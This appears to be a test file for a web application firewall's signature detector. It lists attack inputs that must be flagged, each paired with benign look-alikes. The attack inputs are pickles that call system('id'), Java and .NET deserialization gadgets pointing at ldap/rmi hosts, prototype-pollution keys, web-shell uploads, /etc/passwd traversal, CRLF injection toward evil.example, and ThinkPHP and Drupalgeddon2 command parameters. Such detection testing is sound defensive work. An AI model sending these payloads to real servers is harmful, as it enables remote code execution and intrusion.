// Signatures (filter/core/signatures.ts): verdicts that score 1 in their class and overall, whatever
// the model makes of the text. An attack tool that names itself in the User-Agent (scanner; nowhere
// else, and not a browser, a library or a crawler); a serialized Java or PHP object as a value, and
// prototype pollution in a parameter name or JSON keys (rce).
import { beforeAll, describe, expect, it } from "vitest";
import { type Core, loadCore } from "../support/core";
import { describeVerdicts } from "../support/verdicts";

let core: Core;
beforeAll(async () => { core = await loadCore(); expect(core.configure("")).toBeNull(); });

const TOOL_BANNERS = [
  "gobuster/3.6",
  "sqlmap/1.7.2#stable (https://sqlmap.org)",
  "Fuzz Faster U Fool v2.1.0-dev",
  "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
  "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
  "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
  "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
  "sqlninja/0.2.6",
  "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1) WebInspect",
];
const NOT_TOOLS = [
  "curl/8.4.0",
  "python-requests/2.31.0",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
  "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
  "Mozilla/5.0 (Linux; Android 13; Pangolin-Tab) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 Pangolins",
];

describe("tool signatures", () => {
  it.each(TOOL_BANNERS)("%j in User-Agent scores 1, class scanner", (ua) => {
    const s = core.score("header:User-Agent", ua);
    expect(s.score).toBe(1);
    expect(s.classes.scanner).toBe(1);
    expect(s.worstClass).toBe("scanner");
    expect(s.worstText.startsWith(ua.slice(0, 12)), s.worstText).toBe(true); // decoded: runs of one byte are capped
  });

  it.each(NOT_TOOLS)("%j in User-Agent is left to the model", (ua) => {
    expect(core.score("header:User-Agent", ua).classes.scanner).toBeGreaterThan(20);
  });

  it("applies to the User-Agent only: a tool named in a query or another header is the model's to judge", () => {
    const banner = "gobuster/3.6";
    const viaModel = core.score("header:User-Agent", "curl/8.4.0").classes.scanner;
    expect(viaModel).toBeGreaterThan(1);
    for (const where of ["query", "header:X-Note", "body:text"]) expect(core.score(where, banner).classes.scanner, where).toBeGreaterThan(1);
  });
});

describe("a header only scanners send", () => {
  it.each([["Acunetix-Aspect", "enabled"], ["Acunetix-Product", "WVS/5.0 (Acunetix Web Vulnerability Scanner - NORMAL)"],
    ["X-Scanner", "Netsparker"], ["X-Ratproxy-Loop", "1"]])("%s: %j scores 1, class scanner", (name, v) => {
    const s = core.score(`header:${name}`, v);
    expect(s.score).toBe(1);
    expect(s.worstClass).toBe("scanner");
  });

  it("is the header's name: a longer name, or the word in a value, is left to the model", () => {
    for (const [where, text] of [["header:X-Scanner-Id", "42"], ["header:X-Note", "acunetix-aspect"],
      ["query", "x-scanner=1"]] as const) {
      expect(core.score(where, text).score, where).toBeGreaterThan(20);
    }
  });
});

describe("httpoxy: a Proxy request header", () => {
  it.each(["http://10.0.0.1:8080", "evil.example:3128", "http://attacker.example/"])("Proxy: %j scores 1, class ssrf", (v) => {
    const s = core.score("header:Proxy", v);
    expect(s.score).toBe(1);
    expect(s.classes.ssrf).toBe(1);
    expect(s.worstClass).toBe("ssrf");
  });

  it("is the header's name, not a word in a value or another header: left to the model", () => {
    for (const [where, text] of [["header:X-Proxy-Id", "evil.example:3128"], ["header:Proxy-Authorization", "Basic dXNlcjpwYXNz"],
      ["query", "proxy=evil.example:3128"], ["body:json", JSON.stringify({ proxy: "evil.example:3128" })]] as const) {
      expect(core.score(where, text).score, where).toBeGreaterThan(20);
    }
  });
});

// A serialized java.util.HashMap (the stream magic AC ED 00 05 and a class descriptor), as base64.
const JAVA_B64 = "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAA";
const javaRaw = Buffer.from(JAVA_B64, "base64");

const SERIALIZED: Array<[string, string | Uint8Array]> = [
  ["query", `state=${JAVA_B64}`],
  ["body:form", `javax.faces.ViewState=${encodeURIComponent(JAVA_B64)}`],
  ["header:Cookie", `session=${JAVA_B64}`],
  ["query", `data=aced0005${javaRaw.subarray(4).toString("hex")}`],
  ["body:text", new Uint8Array(javaRaw)],
  // Base64 with its '=' padding and no `+` or `/`: a long plain name and a value of '=' when the query
  // or a text/plain body is split at its first '=' (pairs.ts offerPair), scored as the whole token.
  ["query", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="],
  ["body:text", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="],
  ["query", "x=1&rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA="],
  ["query", 'data=O:8:"stdClass":1:{s:4:"code";s:20:"ZXZhbCgkX0dFVFsnYyddKTs=";}'],
  ["body:json", JSON.stringify({ cart: 'O:19:"App\\Models\\Basket":1:{s:5:"items";a:0:{}}' })],
  ["header:Cookie", 'prefs=C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}'],
  // .NET's BinaryFormatter stream, as base64 (ysoserial.net's output).
  ["body:json", JSON.stringify({ state: "AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0uV2luZG93cy5Gb3Jtcw==" })],
  ["query", "v=AAEAAAD%2F%2F%2F%2F%2FAQAAAAAAAAAMAgAAAA"],
  // Python pickles that call posix.system('id') (pickle.dumps of a __reduce__ gadget), by protocol:
  // 0 as a form field and as base64 (a text the decoder makes), 2 and 4 as base64 (binary: no text).
  ["body:form", "data=cposix%0Asystem%0Ap0%0A(Vid%0Ap1%0Atp2%0ARp3%0A."],
  ["query", "x=cos%0Asystem%0A(S%27id%27%0AtR."],
  ["header:Cookie", "session=Y3Bvc2l4CnN5c3RlbQpwMAooVmlkCnAxCnRwMgpScDMKLg=="],
  ["query", "e=gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg=="],
  ["body:json", JSON.stringify({ data: "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==" })],
  ["body:text", new Uint8Array([0x80, 0x02, ...Buffer.from("csubprocess\ncheck_output\nq\x00]q\x01X\x02\x00\x00\x00idq\x02a\x85q\x03Rq\x04.", "latin1")])],
];
const NOT_SERIALIZED: Array<[string, string]> = [
  ["query", 'cart=a:2:{i:0;s:3:"one";i:1;s:3:"two";}'], // a PHP array, no object: no gadget to run
  ["query", "token=rO0"],
  ["body:json", JSON.stringify({ blob: "AAAAAQAAAAEAAAAB", key: "AAEAAAD/" })],
  ["body:json", JSON.stringify({ note: "see rO0AB in the docs", id: "acedface" })],
  ["query", 'q=FOO:8:"Bar":1:{'], // O: inside a word
  ["body:text", "cos\nsin\ntan\n"], // a module's name then a callable no gadget uses
  ["body:form", "funcs=cos%0Asin%0Atan&x=1"],
  ["query", "q=cos%0Asystem"], // no line break after the callable: no GLOBAL
  ["query", "q=gAJz1b2x"], // base64 that opens like a pickle's header, without GLOBAL
  ["body:json", JSON.stringify({ note: "cosine\nsystem\n" })],
];

const POLLUTION: Array<[string, string]> = [
  ["query", "a[__proto__][isAdmin]=true"],
  ["query", "__proto__.isAdmin=true"],
  ["query", "%5F%5Fproto%5F%5F%5BisAdmin%5D=true"],
  ["query", "x[constructor][prototype][isAdmin]=true"],
  ["body:form", "settings.constructor.prototype.shell=/bin/sh"],
  ["header:Cookie", "a[__proto__][b]=1"],
  ["body:json", '{"__proto__":{"isAdmin":true}}'],
  ["body:json", '{"user":{"constructor":{"prototype":{"isAdmin":true}}}}'],
  ["body:json", '{"\\u005f_proto__":{"isAdmin":true}}'], // JSON.parse unescapes the key
  ["body:json", '{"a":1, "__proto__" : [{"isAdmin":true}]}'],
  ["body:json", '{"constructor": {"prototype": {"isAdmin":true}}}'],
  ["body:json", '{"constructor" :\n {\t"prototype":{"isAdmin":true}}}'],
  // `prototype` anywhere among the keys of the object `constructor` holds (request/jsonbody.ts marks them).
  ["body:json", '{"constructor":{"id":1,"prototype":{"isAdmin":true}}}'],
  ["body:json", '{"constructor":{"a b":1,"c":"d e","f":{"g":1},"prototype":{"isAdmin":true}}}'],
  ["body:json", '{"constructor":{"constructor":{"x":1},"q r":2,"prototype":{"isAdmin":true}}}'],
  ["body:json", '{"\\u0063onstructor":{"a b":1,"prototype":{"isAdmin":true}}}'],
  ["body:json", '{"constructor":{"a b":1,"\\u0070rototype":{"isAdmin":true}}}'],
  ["query", "a[constructor][prototype].isAdmin=1"],
  // A JSON document as a value, which the application parses (JSON.parse, then a merge).
  ["query", "filter=%7B%22__proto__%22%3A%7B%22isAdmin%22%3Atrue%7D%7D"],
  ["body:form", "settings=%7B%22constructor%22%3A%7B%22prototype%22%3A%7B%22isAdmin%22%3Atrue%7D%7D%7D"],
  ["header:Cookie", 'prefs=j:{"__proto__":{"polluted":1}}'], // Express's JSON cookie
  ["query", "f=%20%0A%5B%7B%22__proto__%22%3A%7B%22a%22%3A1%7D%7D%5D"], // blanks, then an array
  ["query", "f=%7B%22%5Cu005f%5Cu005fproto%5Cu005f%5Cu005f%22%3A%7B%22a%22%3A1%7D%7D"], // an escaped key
  ["body:json", '{"payload":"{\\"__proto__\\":{\\"isAdmin\\":true}}"}'], // JSON in a JSON string
  ["body:json", JSON.stringify({ args: '{"user": {"constructor": {"prototype": {"isAdmin": true}}}}' })],
];
const NOT_POLLUTION: Array<[string, string]> = [
  ["query", "proto=http&x__proto__y=1"],
  ["query", "constructor=Foo&prototype=bar"],
  ["body:json", '{"constructor":"Foo","prototype":"bar"}'],
  ["body:json", '{"kind":"constructor","name":"prototype"}'],
  ["body:json", '{"text":"JavaScript sets an object\u0027s __proto__ and its constructor.prototype, see MDN"}'],
  // A primitive assigned to __proto__ or prototype changes no prototype.
  ["body:json", '{"__proto__":12,"isAdmin":true}'],
  ["body:json", '{"__proto__":"x"}'],
  ["body:json", '{"path":"__proto__","value":{"a":1}}'],
  ["body:json", '{"constructor":{"prototype":"x"}}'],
  // `prototype` outside the object `constructor` holds, or holding a primitive.
  ["body:json", '{"constructor":{"a b":1},"prototype":{"x":1}}'],
  ["body:json", '{"constructor":{"a b":1},"b":{"prototype":{"x":1}}}'],
  // The same where every key between is a bare word, which has no text: `prototype`'s text comes
  // right after `constructor`'s.
  ["body:json", '{"constructor":{"a":1},"x":{"prototype":{}}}'],
  ["body:json", '{"constructor":{},"prototype":{"x":1}}'],
  ["body:json", '{"constructor":[],"prototype":{"x":1}}'],
  ["body:json", '{"constructor":{"a b":1,"prototype":"text"}}'],
  ["query", "a[__proto__]=1"],
  ["query", "__proto__=1&x=2"],
  ["body:form", "settings.constructor.prototype=1"],
  // JSON documents as values with no polluting key, or one that holds a primitive, or text that is no JSON document.
  ["query", "filter=%7B%22status%22%3A%7B%22eq%22%3A%22open%22%7D%7D"],
  ["query", "f=%7B%22__proto__%22%3A1%7D"],
  ["query", "f=%7B%22constructor%22%3A%22x%22%2C%22prototype%22%3A%7B%7D%7D"],
  ["query", "q=how+do+I+set+%22__proto__%22%3A+%7B%7D+in+JSON"],
  ["body:json", JSON.stringify({ Message: JSON.stringify({ orderId: "A-1029", items: [{ sku: "X1" }] }) })],
];

// Type designators naming a deserialization gadget (fastjson, Jackson, XStream, XMLDecoder), and
// Spring's and Struts' class-loader property paths.
const GADGET: Array<[string, string]> = [
  // .NET (ysoserial.net): Json.NET's $type with an assembly-qualified name, a XAML element.
  ["body:json", '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}'],
  ["body:json", '{"$type":"System.Data.Services.Internal.ExpandedWrapper`2[[System.Windows.Markup.XamlReader, PresentationFramework]], System.Data.Services"}'],
  ["body:xml", '<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation"><ObjectDataProvider x:Key="a" ObjectType="{x:Type Diag:Process}" MethodName="Start"/></ResourceDictionary>'],
  ["body:json", '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://198.51.100.7:1389/x","autoCommit":true}'],
  ["body:json", '{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"rmi://198.51.100.7/x"}'],
  ["body:json", '{"@type":"[com.sun.rowset.JdbcRowSetImpl"[{,"dataSourceName":"rmi://198.51.100.7/x"}'],
  ["body:json", '["org.springframework.context.support.ClassPathXmlApplicationContext","http://198.51.100.7/x.xml"]'],
  ["body:json", '{"id":1,"obj":["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:"}]}'],
  ["query", "type=java.lang.ProcessBuilder"],
  ["body:xml", '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><void method="start"/></object></java>'],
  ["body:xml", '<sorted-set><string>x</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"/></dynamic-proxy></sorted-set>'],
  ["body:form", "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&x=1"],
  ["query", "class%5B%27classLoader%27%5D.jarPath=x"],
  ["query", "Class.classLoader.resources.dirContext.docBase=/tmp"],
  // Liferay's JSON web services type a `+name:Class` parameter (CVE-2020-7961).
  ["body:form", "cmd=%7B%22%2Fexpandocolumn%2Fadd-column%22%3A%7B%7D%7D&tableId=1&%2BdefaultData:com.mchange.v2.c3p0.WrapperConnectionPoolDataSource=%7B%7D"],
  ["query", "+defaultData%3Acom.sun.rowset.JdbcRowSetImpl=x"],
];
const NOT_GADGET: Array<[string, string]> = [
  // Json.NET's $type naming an application's own class; a .NET name inside a longer one.
  ["body:json", '{"$type":"MyShop.Models.Order, MyShop","id":12}'],
  ["body:json", '{"$type":"System.Diagnostics.ProcessStartInfo, System","FileName":"notepad"}'],
  ["body:json", '{"$type":"System.Collections.Generic.List`1[[System.String, mscorlib]], mscorlib","$values":["a"]}'],
  // A stack trace names java.lang classes as frames, not as a type to build.
  ["body:json", JSON.stringify({ stack: "java.io.IOException: Cannot run program\n\tat java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)\n\tat java.lang.Runtime.exec(Runtime.java:594)" })],
  ["body:json", '{"@type":"type.googleapis.com/envoy.config.cluster.v3.Cluster","name":"x"}'],
  ["query", "lib=java.lang.RuntimeException"],
  ["body:xml", "<dependency><groupId>javax.servlet</groupId><artifactId>servlet-api</artifactId></dependency>"],
  ["query", "classLoader=app&loader.class=x"],
  ["body:form", "%2BdefaultData:com.example.Settings=%7B%7D&+tags:java.util.List=x"],
];

// A multipart field, and a multipart file (its content is stored as a file, never put into a header
// line or a mail: confirm.ts classesRuledOut).
const mpField = (name: string, value: string) => `--XyZ\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n--XyZ--\r\n`;
const mpFile = (filename: string, type: string, content: string) =>
  `--XyZ\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--XyZ--\r\n`;
const EML = "From: Ann <ann@example.com>\r\nTo: billing@example.com\r\nBcc: audit@example.com\r\nSubject: Invoice 123\r\nContent-Type: text/plain\r\n\r\nPlease find the invoice attached.";
const HTTP_FILE = "POST /api/v1/invoices HTTP/1.1\r\nHost: api.example.com\r\nContent-Type: application/json\r\n\r\n{\"amount\": 12}";
const MIME_FILE = "Content-Type: multipart/mixed; boundary=inner\r\n\r\n--inner\r\nContent-Type: text/plain\r\n\r\nhello\r\n--inner--";

// A field value broken by a line break into a recipient header or a mail protocol command.
const MAIL: Array<[string, string]> = [
  ["body:multipart", mpField("email", "alice@example.com\r\nBcc: victim@example.net")],
  ["body:form", "email=alice%40example.com%0ABcc%3Avictim%40example.net&msg=hi"],
  ["query", "subject=Hello%0D%0ACc:%20a%40example.net"],
  ["body:json", '{"from":"a@example.com\\r\\nRCPT TO:<victim@example.net>\\r\\nDATA\\r\\nspam\\r\\n."}'],
  ["query", "mailbox=INBOX%0D%0AV100%20CAPABILITY%0D%0AV101%20FETCH%204791"],
  ["header:Cookie", "folder=Sent%0d%0aA1%20LOGOUT"],
];
const NOT_MAIL: Array<[string, string]> = [
  // A pasted e-mail starts with a header line of its own; prose before a line break is not a field value.
  ["body:form", "message=" + encodeURIComponent("From: Ann <ann@example.com>\nTo: Bob <bob@example.com>\nSubject: lunch")],
  ["body:json", JSON.stringify({ note: "Thanks for the call.\nNext steps below.\nTo do: send the invoice" })],
  ["body:json", JSON.stringify({ text: "We met on the third floor and went over the plan again. ".repeat(5) + "\nBcc: someone@example.com" })],
  ["query", "q=line%0Aanother%20line"],
  ["body:multipart", mpFile("invoice.eml", "message/rfc822", EML)],
];

// A multipart file stored under a script's or a server configuration's name (upload.ts), whatever
// its content; the same names as a field's value, or other files' names, are left to the model.
const upload = (filename: string, content: string, field = "file") =>
  `--XyZ\r\nContent-Disposition: form-data; name="${field}"; filename="${filename}"\r\nContent-Type: image/jpeg\r\n\r\n${content}\r\n--XyZ--\r\n`;
const field = (name: string, value: string) => `--XyZ\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n--XyZ--\r\n`;
const UPLOAD: Array<[string, string]> = [
  ["body:multipart", upload("avatar.php", "GIF89a hello")],
  ["body:multipart", upload("../../uploads/Shell.PHTML.", "x")],
  ["body:multipart", upload(".htaccess", "AddType application/x-httpd-php .jpg")],
  ["body:multipart", upload("cmd.jsp", "<p>hi</p>")],
  ["body:multipart", upload("SHELL.PhP5 ", "x")],
  // A NUL where a server written in C cuts the name, and a control byte busboy refuses in a
  // quoted string (a lenient server reads the name).
  ["body:multipart", upload("shell.php\u0000.jpg", "GIF89a")],
  ["body:multipart", upload("cmd.jsp\u0001", "x")],
  // The same cut as tools send it, IIS 6's `;` and an NTFS stream's `:`.
  ["body:multipart", upload("x.jsp%00.png", "x")],
  ["body:multipart", upload("x.asp;.jpg", "x")],
  ["body:multipart", upload("x.php::$DATA", "x")],
  ["body:multipart", upload("C:\\Users\\me\\shell.aspx", "x")],
];
const NOT_UPLOAD: Array<[string, string]> = [
  ["body:multipart", upload("holiday.jpg", "JFIF")],
  ["body:multipart", upload("notes.php.txt", "meeting notes")],
  ["body:multipart", field("page", "index.php")],
  ["body:multipart", upload(".php", "x")],
  ["body:multipart", upload("photo\u0007.jpg", "JFIF")],
  ["body:multipart", upload("100%00 done;v2.txt", "x")],
  ["body:multipart", upload("C:\\Users\\me\\photo.jpg", "JFIF")],
];

// A NUL decoded out of a URL's or form's value that holds a path's bytes: the null-byte truncation of
// a file name (CRS 920270), classed traversal when no lexer confirmed another class.
const NUL: Array<[string, string]> = [
  ["query", "page=/www/logs/proftpd.system.log%00&v=1"],
  ["query", "file=report.pdf%00.php"],
  ["body:form", "tpl=..%2F..%2Fetc%2Fpasswd%2500&x=1"],
  ["header:Cookie", "lang=../../../../boot.ini%00; sid=1"],
  ["path", "/download/notes.txt%00.html"],
];
const NOT_NUL: Array<[string, string]> = [
  ["query", "id=12%00"],
  ["body:json", '{"file":"report.pdf\\u0000.php"}'],
  ["query", "file=report.pdf"],
  // A base64 value whose decoding holds NULs (binary or a tracking blob), not a decoded %00.
  ["query", "t=aGVsbG8Ad29ybGQveC50eHQAIGFiYywgbW9yZSB0ZXh0IGhlcmU="],
];

// A line break beside an HTTP message's first line (httpsplit.ts).
const HTTP_MESSAGE: Array<[string, string]> = [
  ["query", "x=%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html"],
  ["query", "x=GET%20/%20HTTP/1.1%0d%0aHost:%20evil.example"],
  ["body:form", "a=x%0d%0a%0d%0aGET%20/admin%20HTTP/1.1"],
  ["body:json", JSON.stringify({ v: "x\r\n\r\nPOST /api/users HTTP/1.1\r\nHost: internal" })],
  ["body:multipart", mpField("note", "x\r\n\r\n" + HTTP_FILE)],
];
const NOT_HTTP_MESSAGE: Array<[string, string]> = [
  ["query", "q=POST%20/api%20HTTP/1.0"],
  ["body:json", JSON.stringify({ note: "We moved to HTTP/2.\nSee the GET / docs." })],
  ["body:form", "msg=line%0d%0aHTTP/1.1+spec+section+3"],
  ["body:multipart", mpFile("create-invoice.http", "application/octet-stream", HTTP_FILE)],
];

// A URL's value broken into a header line that steers a proxy, a cache or the response (httpsplit.ts
// injectedHeader, CRS 921160).
const INJECTED_HEADER: Array<[string, string]> = [
  ["query", "next=/home%0d%0aHost:%20evil.example"],
  ["query", "lang=en%0d%0aX-Forwarded-For:%20127.0.0.1"],
  ["query", "page=1%0aVia:%201.1%20cache"],
  ["query", "r=a%0d%0a%20Refresh:%200;url=http://evil.example"],
  ["query", "u=http://shop.example/%0d%0aX-Original-URL :%20/admin"],
  ["header:Cookie", "theme=dark%0d%0aX-Forwarded-Host:%20evil.example"],
];
const NOT_INJECTED_HEADER: Array<[string, string]> = [
  // A form's or a JSON string's line break may be a text's next line.
  ["body:form", "description=Team+meeting%0d%0aLocation:+Room+4%0d%0aHost:+Maria"],
  ["body:json", JSON.stringify({ notes: "Agenda\nHost: Maria\nVia: video call" })],
  // No line break, or no header's name after it, or a first line longer than a field value's.
  ["query", "q=host:example.com"],
  ["query", "msg=Hello%0d%0aHostname:%20changed"],
  ["query", `note=${"word%20".repeat(60)}%0aHost:%20Maria`],
];

// A PHP function run by name through ThinkPHP 5's dispatch (phpdispatch.ts): a caller of a function
// by name as a whole value, `_method=__construct`.
const PHP_DISPATCH: Array<[string, string]> = [
  ["query", "s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id"],
  ["query", "function=CALL_USER_FUNC&vars[0]=phpinfo"],
  ["body:form", "_method=__construct&filter%5B%5D=system&method=get&server%5BREQUEST_METHOD%5D=id"],
  ["body:multipart", field("function", "call_user_func_array")],
];
const NOT_PHP_DISPATCH: Array<[string, string]> = [
  ["query", "q=__construct"],
  ["query", "q=call_user_funcs"],
  ["body:form", "_method=PUT&title=x"],
  ["query", "q=how+to+use+call_user_func_array+in+php"],
  ["body:json", JSON.stringify({ function: "call_user_func_array" })],
];

// A Drupal render array's callback property as a parameter name's segment (Drupalgeddon2).
const RENDER_CALLBACK: Array<[string, string]> = [
  ["body:form", "form_id=user_register_form&_drupal_ajax=1&mail%5B%23post_render%5D%5B%5D=exec&mail%5B%23type%5D=markup&mail%5B%23markup%5D=id"],
  ["body:form", "timezone[a][#lazy_builder][]=passthru&timezone[a][#lazy_builder][][]=id"],
  ["query", "q=user/password&name[#post_render][]=passthru&name[#type]=markup&name[#markup]=id"],
];
const NOT_RENDER_CALLBACK: Array<[string, string]> = [
  ["body:form", "tags[#]=1&color[#fff]=on&items[0][name]=x"],
  ["body:form", "settings[#post]=abc&x[post_render]=1"],
];

describeVerdicts("%s signatures", () => core, [
  ["php-dispatch", "rce", PHP_DISPATCH, NOT_PHP_DISPATCH],
  ["render-callback", "rce", RENDER_CALLBACK, NOT_RENDER_CALLBACK],
  ["injected-header", "crlf", INJECTED_HEADER, NOT_INJECTED_HEADER],
  ["http-message", "crlf", HTTP_MESSAGE, NOT_HTTP_MESSAGE],
  ["null-byte", "traversal", NUL, NOT_NUL],
  ["script-upload", "rce", UPLOAD, NOT_UPLOAD],
  ["serialized-object", "rce", SERIALIZED, NOT_SERIALIZED],
  ["prototype-pollution", "rce", POLLUTION, NOT_POLLUTION],
  ["java-gadget", "rce", GADGET, NOT_GADGET],
  ["mail-injection", "crlf", MAIL, NOT_MAIL],
]);

// The model's CRLF reading is ruled out in a file's content too (the gate holds it), not only the
// verdicts: an uploaded e-mail, HTTP message or MIME entity is not flagged; the same text in a field is.
it.each([
  ["invoice.eml", "message/rfc822", EML],
  ["create-invoice.http", "application/octet-stream", HTTP_FILE],
  ["parts.mime", "multipart/mixed", MIME_FILE],
])("a multipart file %s holding header lines is no CRLF injection", (filename, type, content) => {
  const s = core.score("body:multipart", mpFile(filename, type, content));
  expect(s.classes.crlf).toBeGreaterThan(20);
  expect(s.score).toBeGreaterThan(20);
  expect(core.score("body:multipart", mpField("description", "x\r\n" + content)).classes.crlf).toBeLessThanOrEqual(20);
});

// A value that opens with two header lines is a message or a header block (an e-mail API's raw
// message, Postmark's spam check), its header lines there by design; so are the pieces its runs of
// blanks cut from it (a folded `Received:` line). One header line, or header lines after a value,
// padded or not, are an injection still.
const RAW_MESSAGE = "Delivered-To: receiver@example.com\nReceived: by 10.194.205.41 with SMTP id ld9csp1978927wjc;\n        Tue, 4 Oct 2016 01:34:04 -0700 (PDT)\nReturn-Path: <info@example.eu>\nReceived: from cloud1.example.io ([2a01:4f8:212:46::2])\n        by mx.example.com with ESMTPS id da3si3018187wjc.119.2016.10.04.01.34.04\n        for <receiver@example.com>;\n        Tue, 04 Oct 2016 01:34:04 -0700 (PDT)\nContent-Type: text/plain; charset=\"utf-8\"\nMIME-Version: 1.0\nContent-Transfer-Encoding: 8bit\nSubject: Recruiting Message\nFrom: info@example.com\nTo: receiver@example.com\n\nBla bla bla,\n";
it("a raw message in a JSON field is no CRLF injection", () => {
  expect(core.score("body:json", JSON.stringify({ options: "long", email: RAW_MESSAGE })).classes.crlf).toBeGreaterThan(20);
});
it.each([
  "en\r\nSet-Cookie: session=evil\r\nX-A: b",
  "en" + " ".repeat(40) + "\r\nSet-Cookie: session=evil\r\nLocation: http://evil.example",
  "Note: hi\r\n\r\n<script>alert(1)</script>",
])("header lines after a value are still a CRLF injection: %j", (value) => {
  expect(core.score("body:json", JSON.stringify({ lang: value })).score).toBeLessThanOrEqual(20);
});

// A window already scored in a request is skipped when its bytes come again (score.ts seenBefore):
// one scored in a file, where the gate held its crlf class, must not stand for the same bytes in a
// field after it. A file holding the field's payload hid it (81) until the window was forgotten.
it.each(["abc\r\nSet-Cookie: session=evil", "foo\r\nLocation: http://evil.example", "hello\r\nRefresh: 0; url=http://evil.example"])(
  "a file with the same bytes does not hide a field's header injection: %j", (value) => {
    const file = mpFile("a.txt", "text/plain", value).replace("--XyZ--\r\n", "");
    expect(core.score("body:multipart", file + mpField("note", value)).score).toBeLessThanOrEqual(20);
  });

it("a path segment named __proto__ is not a parameter name", () => {
  expect(core.score("path", "/docs/__proto__/index.html").classes.rce).toBeGreaterThan(1);
});
